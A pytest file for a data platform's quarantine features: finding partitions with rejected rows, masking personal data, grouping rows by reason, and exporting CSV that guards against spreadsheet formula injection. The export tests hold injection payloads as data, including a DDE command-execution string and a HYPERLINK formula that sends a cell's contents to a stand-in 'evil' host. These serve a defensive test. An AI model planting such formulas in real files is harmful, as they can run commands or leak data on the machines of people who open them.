"""What waits, as it is read, masked, grouped and made safe: on deliveries that were staged as in production."""

import csv
import io
from collections.abc import Sequence
from datetime import date, time, timedelta
from decimal import Decimal
from typing import Any

import polars as pl
import pytest

from data_platform.contracts import STAGED
from data_platform.errors import PlatformError
from data_platform.lake import Lake, Stamp
from data_platform.quality.masking import MASK
from data_platform.quality.quarantine import (
    PLACE,
    UNKNOWN,
    by_reason,
    described,
    examples,
    masked_rows,
    rows_in_clear,
    spreadsheet_csv,
    standing,
    waiting,
)
from data_platform.sources.config import Source
from data_platform.transforms.staging import delivered_columns, stage_window

DAY = date(2024, 1, 5)
NEXT = DAY + timedelta(days=1)
SECRET = "ada@secret.example"
PLAIN = {entity: Source.model_validate({"entity": entity}) for entity in STAGED}
LINE = {"order_id": "o1", "line_number": "1", "product_id": "p1", "quantity": "2", "unit_price": "10.00",
        "order_ts": f"{DAY}T10:00:00"}  # fmt: skip
LATE = f"{DAY + timedelta(days=30)}T10:00:00Z"


def stage(
    lake: Lake,
    entity: str,
    rows: Sequence[dict[str, Any]],
    *,
    day: date = DAY,
    source: Source | None = None,
    noted: bool = True,
    file: str = "",
) -> None:
    """Put a delivery of one file into the lake as the staging asset does, which notes (`noted`) run and contract."""
    raw = pl.DataFrame(rows).with_columns(
        pl.lit(day).alias("_partition"),
        pl.lit(file or f"{day}.csv").alias("_file"),
        pl.int_range(1, pl.len() + 1).alias("_row"),
    )
    contract = STAGED[entity]
    [staged] = stage_window(raw, [day], contract=contract, source=source or PLAIN[entity], timezone="UTC")
    rejected = staged.quarantined
    if noted:
        rejected = rejected.with_columns(_run_id=pl.lit("a run"), _contract=pl.lit(contract.fingerprint()))
    lake.promote([lake.write_aside(contract.table, day, staged.rows, staged.stamp, rejected)])


def customer(**values: Any) -> dict[str, Any]:
    """A customer whom staging rejects, since the change lies in the future of the delivery."""
    return {"customer_id": "c1", "country": "DE", "updated_at": LATE} | values


def mapped(**columns: Any) -> dict[str, Source]:
    return PLAIN | {"customers": Source.model_validate({"entity": "customers", "columns": columns})}


def the_masked(lake: Lake, sources: dict[str, Source] | None = None) -> dict[str, Any]:
    [row] = masked_rows(waiting(lake), sources or PLAIN).iter_rows(named=True)
    return {name: value for name, value in row.items() if name not in PLACE}


# What waits


def test_partitions_with_rejected_rows_wait_and_others_do_not(lake: Lake) -> None:
    stage(lake, "orders", [LINE, LINE | {"order_id": "o2", "quantity": "many"}])
    stage(lake, "orders", [LINE], day=NEXT)
    stage(lake, "customers", [customer(), customer(customer_id="c2")], day=NEXT)
    found = waiting(lake)
    assert [(one.table, one.day, one.rows) for one in found] == [("stg_orders", DAY, 1), ("stg_customers", NEXT, 2)]
    assert found[0].age(NEXT) == 1
    assert [one.table for one in waiting(lake, entity="orders")] == ["stg_orders"]
    assert [one.table for one in waiting(lake, first=NEXT)] == ["stg_customers"]
    assert [one.table for one in waiting(lake, last=DAY)] == ["stg_orders"]
    assert waiting(lake, entity="products") == []


def test_a_day_stands_where_staging_is_of_what_raw_holds(lake: Lake) -> None:
    stage(lake, "orders", [LINE, LINE | {"order_id": "o2", "quantity": "many"}])
    stage(lake, "orders", [LINE], day=NEXT)
    raw = {DAY: Stamp(content="a", rows_delivered=2), NEXT: Stamp(content="b", rows_delivered=9)}
    raw[NEXT + timedelta(days=1)] = Stamp(content="", delivered=False)
    lake.promote([lake.write_aside("raw_orders", day, pl.DataFrame(), stamp) for day, stamp in raw.items()])
    assert standing(lake, ["stg_orders", "stg_customers"]) == {"stg_orders": {DAY}, "stg_customers": set()}


def test_an_empty_lake_has_nothing_waiting_and_reads_as_a_frame_without_rows(lake: Lake) -> None:
    assert waiting(lake) == []
    rows = rows_in_clear([])
    assert rows.columns == list(PLACE)
    assert by_reason(rows).is_empty()
    assert spreadsheet_csv(rows).count("\n") == 1


def test_rows_are_as_delivered_with_their_place_and_every_reason(lake: Lake) -> None:
    stage(lake, "orders", [LINE, LINE | {"quantity": " many ", "unit_price": "-1", "colour": "red"}])
    [row] = rows_in_clear(waiting(lake)).iter_rows(named=True)
    assert row == LINE | {
        "_table": "stg_orders",
        "_partition": DAY,
        "_file": f"{DAY}.csv",
        "_row": 2,
        "_reasons": ["quantity cannot be read as integer", "unit_price_not_negative: A price is zero or more."],
        "_run_id": "a run",
        "_contract": STAGED["orders"].fingerprint(),
        "quantity": " many ",
        "unit_price": "-1",
        "colour": "red",
    }


def test_files_that_differ_in_columns_and_types_come_together_as_text(lake: Lake) -> None:
    stage(lake, "orders", [LINE | {"quantity": 0.5, "note": [1, 2], "at": time(1, 2)}])
    stage(lake, "orders", [LINE | {"quantity": "many", "note": "as text", "raw": b"\xff1"}], day=NEXT)
    rows = rows_in_clear(waiting(lake))
    assert rows["quantity"].to_list() == ["0.5", "many"]
    assert rows["note"].to_list() == ['{"note":[1,2]}', "as text"]
    assert rows["at"].to_list() == ["01:02:00", None]
    assert rows["raw"].to_list() == [None, "�1"]


def test_a_name_that_is_made_for_a_delivered_column_takes_no_other_column_s_place(lake: Lake) -> None:
    stage(lake, "orders", [LINE | {"quantity": "x", "_table": "t", "delivered_table": "d"}])
    [row] = rows_in_clear(waiting(lake)).iter_rows(named=True)
    assert (row["delivered_table_"], row["delivered_table"]) == ("t", "d")


def test_every_type_that_parquet_delivers_becomes_text(lake: Lake) -> None:
    values = {
        "took": timedelta(hours=1),
        "yes": True,
        "day": DAY,
        "price": Decimal("1.50"),
        "bytes": b"a",
        "null": None,
    }
    place: dict[str, Any] = {"_file": "a", "_row": 1, "_reasons": ["r"], "_order_id": None, "_line_number": None}
    rejected = pl.DataFrame([values | place])
    stamp = Stamp(content="x", rows_quarantined=1)
    lake.promote([lake.write_aside("stg_orders", DAY, pl.DataFrame(), stamp, rejected)])
    [row] = rows_in_clear(waiting(lake)).iter_rows(named=True)
    assert [row[name] for name in values] == ["PT1H", "true", "2024-01-05", "1.50", "a", None]
    assert [row[name] for name in place if name not in PLACE and name in row] == []


def test_delivered_columns_with_names_of_ours_are_kept_apart(lake: Lake) -> None:
    stage(lake, "orders", [LINE | {"quantity": "x", "_table": "t", "_reasons": "r", "_order_id": "k", "_other": "o"}])
    [row] = rows_in_clear(waiting(lake)).iter_rows(named=True)
    assert row["_table"] == "stg_orders"
    found = {name: row[name] for name in ("delivered_table", "delivered_reasons", "delivered_order_id", "_other")}
    assert list(found.values()) == ["t", "r", "k", "o"]
    shown = the_masked(lake)
    assert {shown[name] for name in found} == {MASK}


def test_older_files_tell_neither_run_nor_contract(lake: Lake) -> None:
    stage(lake, "customers", [customer()], noted=False)
    [one] = waiting(lake)
    assert described(one)["run_id"] == described(one)["contract"] == UNKNOWN


def test_a_partition_is_described_by_its_most_frequent_reason(lake: Lake) -> None:
    bad = [LINE | {"order_id": f"o{n}", "quantity": "x", "unit_price": "-1" if n else "1"} for n in range(3)]
    stage(lake, "orders", bad)
    [one] = waiting(lake)
    assert described(one) == {
        "entity": "orders",
        "table": "stg_orders",
        "day": DAY,
        "rows": 3,
        "reasons": 2,
        "most_frequent_reason": "quantity cannot be read as integer",
        "rows_with_it": 3,
        "run_id": "a run",
        "contract": STAGED["orders"].fingerprint(),
    }


def test_a_quarantine_file_that_is_gone_is_named_with_the_mend(lake: Lake) -> None:
    stage(lake, "customers", [customer()])
    [one] = waiting(lake)
    one.path.unlink()
    with pytest.raises(PlatformError, match=f"backfill --from {DAY} --to {DAY} --select stg_customers"):
        described(one)


def test_a_quarantine_file_that_is_broken_is_one_sentence(lake: Lake) -> None:
    stage(lake, "customers", [customer()])
    [one] = waiting(lake)
    one.path.write_bytes(one.path.read_bytes()[:100])
    with pytest.raises(PlatformError, match="is broken"):
        described(one)


# By reason


def test_rows_count_under_each_of_their_reasons(lake: Lake) -> None:
    stage(lake, "orders", [LINE | {"quantity": "x", "unit_price": "-1"}, LINE | {"order_id": "o2", "quantity": "x"}])
    stage(lake, "orders", [LINE | {"quantity": "y"}], day=NEXT)
    rows = rows_in_clear(waiting(lake))
    unread, negative = "quantity cannot be read as integer", "unit_price_not_negative: A price is zero or more."
    assert by_reason(rows).rows() == [
        ("stg_orders", unread, 3, 2, DAY, NEXT, 2),
        ("stg_orders", negative, 1, 1, DAY, DAY, 1),
    ]
    assert [(one["day"], one["row"]) for one in examples(rows, "stg_orders", unread, 2)] == [(DAY, 1), (DAY, 2)]
    [one] = examples(rows, "stg_orders", negative, 5)
    assert one["reasons"] == [unread, negative]
    assert (one["file"], one["values"]["quantity"]) == (f"{DAY}.csv", "x")


# Masks


def test_columns_of_the_contract_are_clear_and_personal_ones_are_masked(lake: Lake) -> None:
    stage(lake, "customers", [customer(email=SECRET, first_name="A", last_name="Lovelace" * 9, segment="  ")])
    assert the_masked(lake) == {
        "customer_id": "c1", "country": "DE", "updated_at": LATE, "segment": None,
        "email": MASK, "first_name": MASK, "last_name": MASK,
    }  # fmt: skip


@pytest.mark.parametrize("name", ["EMail", " email ", "mail", "Kontakt", "_email", "e_mail", "notes"])
def test_personal_data_under_any_name_is_masked(lake: Lake, name: str) -> None:
    for sources in (PLAIN, mapped(email=name)):
        stage(lake, "customers", [customer(**{name: "Lovelace"})], source=sources["customers"])
        assert the_masked(lake, sources)[name] == MASK


def test_columns_that_are_mapped_to_the_contract_are_clear(lake: Lake) -> None:
    sources = mapped(country="Land", segment="Gruppe", first_name="Vorname")
    row = customer(LAND="FR", Gruppe="retail", Vorname="Ada")
    del row["country"]
    stage(lake, "customers", [row], source=sources["customers"])
    found = the_masked(lake, sources)
    assert (found["LAND"], found["Gruppe"], found["Vorname"]) == ("FR", "retail", MASK)


def test_a_column_that_a_broken_mapping_takes_for_a_segment_stays_masked(lake: Lake) -> None:
    for sources in (mapped(segment="email"), mapped(segment="mail", email="Mail")):
        stage(lake, "customers", [customer(email="Lovelace", mail="Lovelace")], source=PLAIN["customers"])
        found = the_masked(lake, sources)
        assert (found["email"], found["mail"]) == (MASK, MASK)


def test_a_delivered_column_in_whose_place_a_constant_stands_is_masked(lake: Lake) -> None:
    sources = mapped(segment={"constant": "all"})
    stage(lake, "customers", [customer(segment="Lovelace")], source=sources["customers"])
    assert the_masked(lake, sources)["segment"] == MASK


def test_a_column_that_the_mapping_of_today_cannot_tell_from_another_is_masked(lake: Lake) -> None:
    row = customer(Land="FR", LAND="IT")
    stage(lake, "customers", [row], source=mapped(country="Land")["customers"])
    found = the_masked(lake, mapped(country="land"))
    assert (found["Land"], found["LAND"]) == (MASK, MASK)


def test_a_column_that_staging_never_maps_is_masked_whatever_the_mapping_says(lake: Lake) -> None:
    sources = mapped(country="_land")
    stage(lake, "customers", [customer(_land="FR")], source=sources["customers"])
    assert the_masked(lake, sources)["_land"] == MASK


def test_a_value_in_the_wrong_column_is_masked(lake: Lake) -> None:
    """A row that slipped: an address in a clear column, a name where a date belongs."""
    stage(lake, "customers", [customer(country=SECRET, created_date="Lovelace", is_deleted="no", segment="x＠y")])
    found = the_masked(lake)
    assert (found["country"], found["created_date"], found["segment"], found["is_deleted"]) == (MASK, MASK, MASK, "no")


def test_an_address_in_the_name_of_a_file_is_masked(lake: Lake) -> None:
    stage(lake, "orders", [LINE | {"quantity": "two"}], file=f"{DAY}/{SECRET}.csv")
    assert masked_rows(waiting(lake), PLAIN)["_file"].to_list() == [f"{DAY}/{MASK}"]
    assert rows_in_clear(waiting(lake))["_file"].to_list() == [f"{DAY}/{SECRET}.csv"]


def test_in_tables_without_personal_data_what_cannot_be_read_is_shown(lake: Lake) -> None:
    stage(lake, "orders", [LINE | {"quantity": "two", "order_ts": "soon"}])
    assert the_masked(lake)["quantity"] == "two"
    assert the_masked(lake)["order_ts"] == "soon"


@pytest.mark.parametrize("entity", list(STAGED))
def test_no_reason_quotes_a_value(lake: Lake, entity: str) -> None:
    contract = STAGED[entity]
    planted = "Lovelace\0" * 40
    source = Source.model_validate({"entity": entity, "currency": "EUR"})
    rows = [dict.fromkeys([*delivered_columns(contract), "currency"], planted)]
    rows += [dict.fromkeys(rows[0], "") | {one: planted} for one in rows[0]]
    stage(lake, entity, rows, source=source)
    reasons = rows_in_clear(waiting(lake))["_reasons"].explode().unique().to_list()
    assert len(reasons) > 5
    assert not [reason for reason in reasons if "Lovelace" in reason]


# For spreadsheets


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1)", "\tx", "\rx", "\nx", " =1", "\x00=1", "＝1", "＠x",
     "-", "--5", "-5-5", "-A1", "+1+1", "-1.5e3x"],
)  # fmt: skip
def test_a_cell_that_could_be_a_formula_begins_with_an_apostrophe(text: str) -> None:
    assert cells(text) == ["'" + text]


@pytest.mark.parametrize(
    "text",
    [
        "-5",
        "+5",
        "-5.25",
        "-5,25",
        "-.5",
        "-1.234,50",
        "-1,234.50",
        "-1e5",
        "+1E-5",
        " -5",
        "5",
        "a=b",
        "a@b",
        "",
        "-1,50",
        "2024-01-05",
        "2024-01-05T10:00:00+01:00",
        "a;b",
        "a; b - c",
        "one, two",
        "x | y",
        "a\tb",
        "two\nlines",
    ],
)
def test_numbers_and_harmless_texts_stay_as_they_are(text: str) -> None:
    assert cells(text) == [text]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ('x;=HYPERLINK("http://evil/?"&A1);y', 'x;\'=HYPERLINK("http://evil/?"&A1);y'),
        ("x, =1", "x, '=1"),
        ("x|+1", "x|'+1"),
        ("x\t @SUM(A1)", "x\t '@SUM(A1)"),
        ("x;-1", "x;'-1"),
        ("x\n=1", "x\n'=1"),
        ('x;"=1', "x;\"'=1"),
        ("x;＝1", "x;'＝1"),
        ("=;=;;=", "'=;'=;;'="),
        ("\t=1", "'\t'=1"),
        ("\t-5", "'\t'-5"),
        ("-5\n=1", "'-5\n'=1"),
    ],
)
def test_what_could_be_a_formula_once_the_cell_is_split_is_guarded_within_it(text: str, safe: str) -> None:
    assert cells(text) == [safe]


def cells(text: str) -> list[str]:
    """A value as it stands in the file, in every column of text."""
    rows = rows_in_clear([]).vstack(
        pl.DataFrame([["t", DAY, text, 1, ["one", "two"], text, text]], schema=rows_in_clear([]).schema, orient="row")
    )
    _, read = csv.reader(io.StringIO(spreadsheet_csv(rows), newline=""))
    return list({read[PLACE.index(name)] for name in ("_file", "_run_id", "_contract")})


def test_names_of_columns_are_cells_as_well() -> None:
    text = spreadsheet_csv(rows_in_clear([]).with_columns(pl.lit("x").alias("=1+1")))
    assert text.splitlines()[0].endswith(',"\'=1+1"')


def test_the_file_says_that_it_is_utf8_and_joins_all_reasons(lake: Lake) -> None:
    stage(lake, "orders", [LINE | {"quantity": "×", "unit_price": "-1"}])
    text = spreadsheet_csv(rows_in_clear(waiting(lake)))
    assert text.encode().startswith(b'\xef\xbb\xbf"_table"')
    [row] = csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))
    assert row["_reasons"] == ("quantity cannot be read as integer | unit_price_not_negative: A price is zero or more.")
    assert (row["_partition"], row["_row"], row["quantity"], row["unit_price"]) == (str(DAY), "1", "×", "-1")
